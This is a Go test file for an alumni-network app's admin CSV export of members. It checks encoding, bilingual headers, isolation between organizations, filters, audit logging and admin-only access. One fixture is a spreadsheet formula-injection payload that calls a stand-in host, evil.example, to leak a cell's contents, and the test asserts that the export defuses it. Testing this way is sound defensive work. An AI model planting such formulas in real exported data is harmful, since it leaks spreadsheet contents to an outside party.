package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tsunagu/tsunagu/internal/app/apptest"
	"github.com/tsunagu/tsunagu/internal/audit"
	"github.com/tsunagu/tsunagu/internal/member"
	"github.com/tsunagu/tsunagu/internal/org"
)

var (
	headerJA = []string{"姓", "名", "せい", "めい", "Family (romaji)", "Given (romaji)", "メール", "ロール", "入社年", "退職年", "部署", "役職",
		"現在の勤務先", "業種", "現在の役職", "所在地", "スキル", "興味", "オープン", "再雇用可否", "条件", "社内メモ", "社員番号", "最終確認日"}
	headerEN = []string{"Family name", "Given name", "Family name (kana)", "Given name (kana)", "Family name (romaji)", "Given name (romaji)",
		"Email", "Role", "Joined", "Left", "Departments", "Positions held", "Current company", "Industry", "Current role", "Location",
		"Skills", "Interests", "Open to", "Rehire eligibility", "Rehire conditions", "Internal notes", "Employee number", "Last confirmed"}
)

const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"詳細")`

func jstZone(t *testing.T) *time.Location {
	t.Helper()
	l, err := time.LoadLocation("Asia/Tokyo")
	if err != nil {
		return time.FixedZone("JST", 9*3600)
	}
	return l
}

// parseExport checks the file's framing and returns its records.
func parseExport(t *testing.T, res *apptest.Response) [][]string {
	t.Helper()
	if res.StatusCode != http.StatusOK {
		t.Fatalf("export: %d\n%s", res.StatusCode, res.Body)
	}
	if ct := res.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	if cc := res.Header.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control %q", cc)
	}
	body := []byte(res.Body)
	if !bytes.HasPrefix(body, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("no UTF-8 BOM: % x", body[:min(8, len(body))])
	}
	body = body[3:]
	if !bytes.HasSuffix(body, []byte("\r\n")) || bytes.Count(body, []byte("\n")) != bytes.Count(body, []byte("\r\n")) {
		t.Error("line ends are not all CRLF")
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not valid CSV: %v", err)
	}
	return records
}

func rowOf(t *testing.T, records [][]string, family string) []string {
	t.Helper()
	for _, r := range records[1:] {
		if r[0] == family {
			return r
		}
	}
	t.Fatalf("no row for %s in %v", family, records)
	return nil
}

func TestMembersCSVExport(t *testing.T) {
	e := apptest.New(t)
	ctx := context.Background()
	adminID := e.AddMember(t, e.Org, org.Admin, "admin@sakura.example.jp").UserID
	e.AddMember(t, e.Org, org.Supporter, "supporter@sakura.example.jp")
	hanako := e.AddProfile(t, e.Org, org.Alumni, "hanako@example.jp",
		org.Name{Family: "山田", Given: "花子", FamilyKana: "やまだ", GivenKana: "はなこ", FamilyRomaji: "Yamada", GivenRomaji: "Hanako"},
		func(p *member.Profile) {
			p.JoinedYear, p.LeftYear = 2012, 2020
			p.Departments, p.RolesHeld = []string{"開発本部", "人事部"}, []string{"エンジニア"}
			p.CurrentCompany, p.Industry, p.CurrentRole, p.Location = "あおば商事", "it", "CTO", "東京都"
			p.Skills, p.Interests = []string{"Go", "採用"}, []string{"登山"}
			p.OpenTo = member.OpenTo{Rehire: true, Mentoring: true}
			// Hidden from members: admins still export it.
			p.Visibility = map[string]member.Visibility{member.FieldWork: member.OnlyAdmins}
		})
	if err := e.App.Members.Confirm(ctx, e.Org.ID, hanako); err != nil {
		t.Fatal(err)
	}
	notes := "退職理由: 家業を継ぐため、\"円満\"。\n再入社の打診は2026年以降"
	if err := e.App.Members.SetInternal(ctx, e.Org.ID, hanako, member.Internal{RehireEligibility: "conditional",
		RehireConditions: "部長承認", Notes: notes, EmployeeNumber: "EMP-0042"}, member.Admin{UserID: adminID}); err != nil {
		t.Fatal(err)
	}
	e.AddProfile(t, e.Org, org.Alumni, "evil@example.jp",
		org.Name{Family: "悪田", Given: "式", FamilyRomaji: "Akuta"},
		func(p *member.Profile) {
			p.CurrentCompany = formula
			p.CurrentRole = "+1-555-0100"
			p.Skills = []string{"@SUM(1+1)", "-2+3"}
		})
	kaede := e.AddOrg(t, "kaede")
	e.AddProfile(t, kaede, org.Alumni, "other@kaede.example.jp", org.Name{Family: "楓野", Given: "次郎"}, nil)

	admin := e.Client(t)
	admin.SignIn(e.Org, "admin@sakura.example.jp", apptest.Password)
	auditBefore := e.Count(t, `SELECT COUNT(*) FROM audit_log WHERE org_id = $1`, e.Org.ID)

	res := admin.Get(e.OrgPath("/admin/members.csv"))
	records := parseExport(t, res)
	day := e.Clock.Now().In(jstZone(t)).Format("20060102")
	cd := res.Header.Get("Content-Disposition")
	if !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, `filename="members-`+day+`.csv"`) ||
		!strings.Contains(cd, "filename*=UTF-8''members-"+day+".csv") {
		t.Errorf("Content-Disposition %q", cd)
	}
	if !slices.Equal(records[0], headerJA) {
		t.Fatalf("Japanese header\n got %q\nwant %q", records[0], headerJA)
	}
	if len(records) != 5 { // header, admin, supporter, hanako, evil
		t.Fatalf("%d records, want 5: %q", len(records), records)
	}
	for _, r := range records {
		if len(r) != len(headerJA) {
			t.Fatalf("row of %d cells: %q", len(r), r)
		}
		if slices.Contains(r, "楓野") || slices.Contains(r, "other@kaede.example.jp") {
			t.Fatal("another organization's member exported")
		}
	}
	want := []string{"山田", "花子", "やまだ", "はなこ", "Yamada", "Hanako", "hanako@example.jp", "アルムナイ", "2012", "2020",
		"開発本部、人事部", "エンジニア", "あおば商事", "IT・通信", "CTO", "東京都", "Go、採用", "登山", "再入社、メンタリング",
		"条件付きで可", "部長承認", notes, "EMP-0042", e.Clock.Now().In(jstZone(t)).Format("2006-01-02")}
	if got := rowOf(t, records, "山田"); !slices.Equal(got, want) {
		t.Errorf("hanako's row\n got %q\nwant %q", got, want)
	}
	evil := rowOf(t, records, "悪田")
	if evil[12] != "'"+formula || evil[14] != "'+1-555-0100" || evil[16] != "'@SUM(1+1)、-2+3" {
		t.Errorf("formulas not defused: company %q role %q skills %q", evil[12], evil[14], evil[16])
	}
	if evil[19] != "" || evil[20] != "" || evil[21] != "" || evil[22] != "" {
		t.Errorf("internal fields of a member without any: %q", evil)
	}
	if sup := rowOf(t, records, "田中"); sup[23] != "" || sup[8] != "" {
		t.Errorf("a never confirmed, empty profile: %q", sup)
	}

	// Filters as on the members page.
	filtered := parseExport(t, admin.Get(e.OrgPath("/admin/members.csv?industry=it&q="+url.QueryEscape("やまだ"))))
	if len(filtered) != 2 || filtered[1][0] != "山田" {
		t.Errorf("filtered export: %q", filtered)
	}
	if rows := parseExport(t, admin.Get(e.OrgPath("/admin/members.csv?role=admin"))); len(rows) != 2 || rows[1][6] != "admin@sakura.example.jp" {
		t.Errorf("role filter: %q", rows)
	}

	// One audit entry per export, with the count and the filters; reading
	// the internal fields in bulk does not add one entry per member.
	entries, err := audit.List(ctx, e.App.DB, e.Org.ID, 0, 100)
	if err != nil {
		t.Fatal(err)
	}
	var exports []audit.Entry
	for _, en := range entries {
		if en.Action == "admin.members_exported" {
			exports = append(exports, en)
		}
	}
	if n := e.Count(t, `SELECT COUNT(*) FROM audit_log WHERE org_id = $1`, e.Org.ID); n != auditBefore+3 || len(exports) != 3 {
		t.Fatalf("%d new audit entries, %d exports; want 3 and 3", n-auditBefore, len(exports))
	}
	if exports[2].Detail["count"] != "4" || exports[2].Detail["filters"] != "" || exports[2].ActorUserID != adminID {
		t.Errorf("first export entry %+v", exports[2])
	}
	if exports[1].Detail["count"] != "1" || exports[1].Detail["filters"] != "industry=it&q="+url.QueryEscape("やまだ") {
		t.Errorf("filtered export entry %+v", exports[1])
	}
	if page := admin.Get(e.OrgPath("/admin/audit")); !strings.Contains(page.Body, "メンバーをCSVで書き出し") {
		t.Error("the audit page does not name the export")
	}

	// English header and labels.
	if res := admin.Post(e.OrgPath("/lang"), url.Values{"lang": {"en"}}); res.StatusCode != http.StatusSeeOther {
		t.Fatal(res.StatusCode)
	}
	en := parseExport(t, admin.Get(e.OrgPath("/admin/members.csv")))
	if !slices.Equal(en[0], headerEN) {
		t.Fatalf("English header\n got %q\nwant %q", en[0], headerEN)
	}
	if row := rowOf(t, en, "山田"); row[7] != "Alumni" || row[10] != "開発本部, 人事部" || row[18] == "" || row[18] == "再入社、メンタリング" {
		t.Errorf("English row %q", row)
	}
}

func TestMembersCSVIsForAdminsOnly(t *testing.T) {
	e := apptest.New(t)
	for _, r := range []org.Role{org.Admin, org.Supporter, org.Employee, org.Alumni} {
		e.AddMember(t, e.Org, r, string(r)+"@sakura.example.jp")
	}
	for _, r := range []org.Role{org.Supporter, org.Employee, org.Alumni} {
		c := e.Client(t)
		c.SignIn(e.Org, string(r)+"@sakura.example.jp", apptest.Password)
		res := c.Get(e.OrgPath("/admin/members.csv"))
		if res.StatusCode != http.StatusForbidden || strings.Contains(res.Body, "@sakura.example.jp") {
			t.Errorf("%s: %d", r, res.StatusCode)
		}
	}
	if res := e.Client(t).Get(e.OrgPath("/admin/members.csv")); res.StatusCode != http.StatusSeeOther {
		t.Errorf("signed out: %d", res.StatusCode)
	}
	if n := e.Count(t, `SELECT COUNT(*) FROM audit_log WHERE action = 'admin.members_exported'`); n != 0 {
		t.Fatalf("%d exports recorded", n)
	}

	// The members page links to the export, with its filters, for admins only.
	admin := e.Client(t)
	admin.SignIn(e.Org, "admin@sakura.example.jp", apptest.Password)
	page := admin.Get(e.OrgPath("/admin/members?industry=it&role=alumni&page=2"))
	if !strings.Contains(page.Body, `href="/o/sakura/admin/members.csv?industry=it&amp;role=alumni"`) {
		t.Errorf("no export link with the filters on the admin's members page:\n%s", page.Body)
	}
	supporter := e.Client(t)
	supporter.SignIn(e.Org, "supporter@sakura.example.jp", apptest.Password)
	if page := supporter.Get(e.OrgPath("/admin/members")); page.StatusCode != http.StatusOK || strings.Contains(page.Body, "members.csv") {
		t.Errorf("supporter's members page: %d, export link shown: %v", page.StatusCode, strings.Contains(page.Body, "members.csv"))
	}
}
